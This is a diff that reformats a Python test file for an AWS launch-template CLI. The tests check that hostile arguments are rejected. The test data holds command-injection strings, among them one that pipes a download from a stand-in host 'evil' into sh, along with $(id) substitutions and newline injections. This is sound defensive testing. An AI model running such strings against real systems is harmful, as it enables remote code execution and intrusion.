@@ -82,7 +82,9 @@ def hostile_matrix(tmp_path: Path, venv: str) -> Path:
     folder.mkdir()
     text = (shipped_matrix_dir() / "2.33.1.toml").read_text()
     assert 'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"' in text
-    text = text.replace('venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"', f"venv = {json.dumps(venv)}")
+    text = text.replace(
+        'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"', f"venv = {json.dumps(venv)}"
+    )
     (folder / "2.33.1.toml").write_text(text)
     return folder
 
@@ -94,7 +96,7 @@ def hostile_matrix(tmp_path: Path, venv: str) -> Path:
         ("--placement-group", "pg\r\nx"),
         ("--neuron-env-spec", "neuron-env'; curl evil | sh; '"),
         ("--neuron-env-spec", "neuron-env $(id)"),
-        ("--iam-instance-profile", "role\"; id; \""),
+        ("--iam-instance-profile", 'role"; id; "'),
         ("--subnet", "subnet-0123456789abcdef0 --evil"),
         ("--ami", "ami-0123456789abcdef0\n"),
     ],
@@ -118,9 +120,9 @@ def test_a_control_character_in_matrix_data_is_refused_not_rendered(
 
 
 def test_a_hostile_template_name_is_refused_before_any_aws_call(cli: CliRunner) -> None:
-    result = cli(*["launch-template", "create", "--name", "lt'; $(id)", *BASE[2:]],
-                 env={"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x",
-                      "AWS_REGION": "us-east-2", "AWS_ENDPOINT_URL": "http://127.0.0.1:9"})  # fmt: skip
+    env = {"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x", "AWS_REGION": "us-east-2",
+           "AWS_ENDPOINT_URL": "http://127.0.0.1:9"}  # fmt: skip
+    result = cli("launch-template", "create", "--name", "lt'; $(id)", *BASE[2:], env=env)
     assert result.returncode == 2
     assert "is not a valid launch-template name" in result.stderr
 
@@ -128,4 +130,3 @@ def test_a_hostile_template_name_is_refused_before_any_aws_call(cli: CliRunner) 
 def test_user_data_round_trips_through_base64_unchanged(cli: CliRunner) -> None:
     data = json.loads(render(cli, "json", *HOSTILE))
     assert base64.b64decode(data["UserData"]).decode() == render(cli, "user-data", *HOSTILE)
-
